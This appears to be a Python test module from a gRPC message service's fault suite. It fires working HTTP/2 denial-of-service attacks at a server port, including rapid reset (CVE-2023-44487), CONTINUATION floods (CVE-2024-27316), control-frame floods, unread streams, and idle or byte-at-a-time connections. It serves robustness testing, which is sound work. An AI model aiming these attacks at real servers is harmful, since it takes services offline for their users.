"""What comes to a port below gRPC: garbage, frames without end, and connections that do nothing.

Each attack takes a port and a scale: 1 is the full form. It returns what it did, for people; the
judges look at the processes and at the witness.
"""

from __future__ import annotations

import asyncio
import random
import struct
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from typing import Final

from tests.faults.hostile.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    TABLE_SIZE,
    WINDOW,
    WINDOW_UPDATE,
    Port,
    Writer,
    block,
    call_fields,
    frame,
    message,
    settings,
)

Attack = Callable[[Port, float, random.Random], Awaitable[str]]

WATCH: Final = b"/grpc.health.v1.Health/Watch"
CONSUME: Final = b"/slatemq.v1.ConsumerService/Consume"
TOPOLOGY: Final = b"/slatemq.v1.TopologyService/GetTopology"


def held_s(scale: float) -> float:
    """How long an attack that only holds something goes on."""
    return min(3.0, max(0.3, 3.0 * scale))


BURST: Final = 200
"""Frames sent together."""

TLS_HELLO: Final = (
    bytes.fromhex("160301002f0100002b0303") + b"\x5a" * 32 + bytes.fromhex("000002130101000000")
)

HTTP1: Final = b"GET /health HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello"


def scaled(count: int, scale: float) -> int:
    return max(10, int(count * scale))


@asynccontextmanager
async def connected(
    port: Port, *first: tuple[int, int]
) -> AsyncIterator[tuple[asyncio.StreamReader, Writer]]:
    """A connection that has sent its preface and these settings."""
    reader, writer = await port.open()
    try:
        await writer.send(PREFACE + settings((TABLE_SIZE, 0), *first))
        yield reader, writer
    finally:
        writer.close()


async def drained(reader: asyncio.StreamReader) -> int:
    """Read to the end of the connection; returns how many bytes came."""
    count = 0
    with suppress(OSError):
        while data := await reader.read(1 << 16):
            count += len(data)
    return count


async def _until_closed(port: Port, bursts: Callable[[int], bytes], count: int) -> int:
    """Send this many bursts; returns how many were taken before the port closed the connection."""
    sent = 0
    async with connected(port) as (reader, writer):
        reading = asyncio.create_task(drained(reader))
        try:
            while sent < count and await writer.send(bursts(sent)):
                sent += 1
                await asyncio.sleep(0)
        finally:
            reading.cancel()
    return sent


async def garbage(port: Port, scale: float, chance: random.Random) -> str:
    """Bytes that are no HTTP/2, or stop being it."""
    count = scaled(300, scale)
    for _ in range(count):
        data = chance.choice(
            (
                chance.randbytes(chance.randrange(1, 2_000)),
                HTTP1,
                TLS_HELLO,
                PREFACE[: chance.randrange(1, len(PREFACE))],
                PREFACE + chance.randbytes(200),
                PREFACE + settings() + chance.randbytes(200),
                PREFACE
                + frame(
                    chance.randrange(20), chance.randrange(256), chance.randrange(5), b"x" * 20
                ),
                PREFACE + settings() + struct.pack(">I", 0xFFFFFF00) + b"\0" * 50,
            )
        )
        with suppress(OSError, TimeoutError):
            _, writer = await port.open(plain=chance.random() < 0.5)
            await writer.send(data)
            writer.close()
    return f"{count} connections"


def _call_head(path: bytes, stream: int, flags: int = END_HEADERS) -> bytes:
    return frame(HEADERS, flags, stream, block(call_fields(path)))


async def rapid_reset(port: Port, scale: float, _: random.Random) -> str:
    """CVE-2023-44487: calls that are reset as soon as they are made."""

    def burst(number: int) -> bytes:
        first = 1 + 2 * BURST * number
        return b"".join(
            _call_head(TOPOLOGY, stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            for stream in range(first, first + 2 * BURST, 2)
        )

    sent = await _until_closed(port, burst, scaled(20_000, scale) // BURST)
    return f"{sent * BURST} calls taken"


async def whole_calls_reset(port: Port, scale: float, _: random.Random) -> str:
    """The same with requests that are whole: each of them is work."""
    body = message(b"")

    def burst(number: int) -> bytes:
        first = 1 + 2 * BURST * number
        return b"".join(
            _call_head(TOPOLOGY, stream)
            + frame(DATA, END_STREAM, stream, body)
            + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            for stream in range(first, first + 2 * BURST, 2)
        )

    sent = await _until_closed(port, burst, scaled(20_000, scale) // BURST)
    return f"{sent * BURST} calls taken"


async def continuation_flood(port: Port, scale: float, _: random.Random) -> str:
    """CVE-2024-27316: a header block that does not end."""
    more = block([(b"x-%d" % n, b"y" * 50) for n in range(20)])

    def burst(number: int) -> bytes:
        first = _call_head(TOPOLOGY, 1, 0) if number == 0 else b""
        return first + frame(CONTINUATION, 0, 1, more) * BURST

    sent = await _until_closed(port, burst, scaled(20_000, scale) // BURST)
    return f"{sent * BURST} frames taken"


async def empty_continuations(port: Port, scale: float, _: random.Random) -> str:
    def burst(number: int) -> bytes:
        first = _call_head(TOPOLOGY, 1, 0) if number == 0 else b""
        return first + frame(CONTINUATION, 0, 1) * BURST

    sent = await _until_closed(port, burst, scaled(50_000, scale) // BURST)
    return f"{sent * BURST} frames taken"


def _control_flood(what: bytes) -> Attack:
    async def flood(port: Port, scale: float, _: random.Random) -> str:
        sent = await _until_closed(port, lambda _: what * BURST, scaled(50_000, scale) // BURST)
        return f"{sent * BURST} frames taken"

    return flood


async def unread_acks(port: Port, scale: float, _: random.Random) -> str:
    """Pings and settings from one who does not read the answers."""
    count, sent = scaled(50_000, scale) // BURST, 0
    async with connected(port) as (_reader, writer):
        while sent < count and await writer.send(
            (frame(PING, 0, 0, b"x" * 8) + settings()) * BURST
        ):
            sent += 1
    return f"{2 * sent * BURST} frames taken"


async def unfinished_calls(port: Port, scale: float, _: random.Random) -> str:
    """Calls whose request never comes: more than may be in flight."""
    async with connected(port) as (reader, writer):
        reading = asyncio.create_task(drained(reader))
        count, sent = scaled(12_000, scale), 0
        while sent < count and await writer.send(
            b"".join(_call_head(TOPOLOGY, 1 + 2 * n) for n in range(sent, sent + BURST))
        ):
            sent += BURST
        await asyncio.sleep(held_s(scale))
        reading.cancel()
    return f"{sent} calls opened"


def _silent_streams(path: bytes, whole: bool) -> Attack:
    async def open_streams(port: Port, scale: float, _: random.Random) -> str:
        """Streams that stay open, and whose answers are not taken: there is no room for one."""
        body = b"" if not whole else message(b"")
        async with connected(port, (WINDOW, 0)) as (reader, writer):
            reading = asyncio.create_task(drained(reader))
            count, sent = scaled(12_000, scale), 0
            while sent < count and await writer.send(
                b"".join(
                    _call_head(path, 1 + 2 * n)
                    + (frame(DATA, END_STREAM, 1 + 2 * n, body) if whole else b"")
                    for n in range(sent, sent + BURST)
                )
            ):
                sent += BURST
            await asyncio.sleep(held_s(scale))
            reading.cancel()
        return f"{sent} streams opened"

    return open_streams


async def idle_connections(port: Port, scale: float, _: random.Random) -> str:
    """Connections that say nothing, or their preface and nothing more."""
    opened = []
    for number in range(scaled(1_000, scale)):
        with suppress(OSError, TimeoutError):
            _reader, writer = await port.open(plain=number % 2 == 0)
            opened.append(writer)
            if number % 4 == 1:
                await writer.send(PREFACE + settings())
    await asyncio.sleep(held_s(scale))
    for writer in opened:
        writer.close()
    return f"{len(opened)} connections"


async def slow_connections(port: Port, scale: float, _chance: random.Random) -> str:
    """Connections on which a call comes a byte at a time."""
    data = PREFACE + settings() + _call_head(TOPOLOGY, 1) + frame(DATA, 0, 1, message(b"", 0, 100))
    opened = []
    for _n in range(scaled(1_000, scale)):
        with suppress(OSError, TimeoutError):
            opened.append((await port.open())[1])
    sent = 0
    end = asyncio.get_running_loop().time() + held_s(scale)
    while sent < len(data) and (sent < 10 or asyncio.get_running_loop().time() < end):
        for writer in opened:
            await writer.send(data[sent : sent + 1])
        sent += 1
        await asyncio.sleep(0.02)
    for writer in opened:
        writer.close()
    return f"{len(opened)} connections, {sent} bytes on each"


ATTACKS: Final[dict[str, Attack]] = {
    "garbage": garbage,
    "rapid reset": rapid_reset,
    "whole calls, reset": whole_calls_reset,
    "headers without end": continuation_flood,
    "empty continuations": empty_continuations,
    "pings": _control_flood(frame(PING, 0, 0, b"x" * 8)),
    "acks of pings": _control_flood(frame(PING, ACK, 0, b"x" * 8)),
    "settings": _control_flood(settings((TABLE_SIZE, 0))),
    "acks of settings": _control_flood(frame(SETTINGS, ACK, 0)),
    "windows": _control_flood(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "priorities": _control_flood(frame(PRIORITY, 0, 1, b"\0\0\0\x03\x10")),
    "unread answers to pings": unread_acks,
    "calls without a request": unfinished_calls,
    "streams without a request": _silent_streams(CONSUME, whole=False),
    "watches that are not read": _silent_streams(WATCH, whole=True),
    "idle connections": idle_connections,
    "slow connections": slow_connections,
}
